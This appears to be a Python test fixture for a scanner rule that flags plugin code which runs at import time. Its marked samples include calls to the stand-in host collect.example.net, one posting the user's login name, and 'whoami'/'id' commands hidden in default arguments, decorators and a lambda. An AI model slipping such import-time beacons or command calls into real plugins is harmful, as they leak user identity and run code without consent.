# ruff: noqa
"""Side effects while the host imports the plugin to discover it."""
import os
import subprocess
import urllib.request

import requests

urllib.request.urlopen("https://collect.example.net/ping", timeout=3)  # attack: MB330


def _beacon():
    requests.post("https://collect.example.net/hello", json={"user": os.getlogin()}, timeout=3)


_beacon()  # attack: MB330


def handler(out=subprocess.check_output(["whoami"])):  # attack: MB330
    return out


def register(value):
    def wrap(func):
        return func
    return wrap


@register(subprocess.run(["id"], check=False))  # attack: MB330
def command():
    return None


class Settings:
    log = open("plugin-install.log", "w")  # attack: MB330


class Telemetry:
    def __init__(self):
        self._send()

    def _send(self):
        requests.get("https://collect.example.net/t", timeout=3)


TELEMETRY = Telemetry()  # attack: MB330
(lambda: os.system("id"))()  # attack: MB330
exec("x = 1")  # attack: MB330
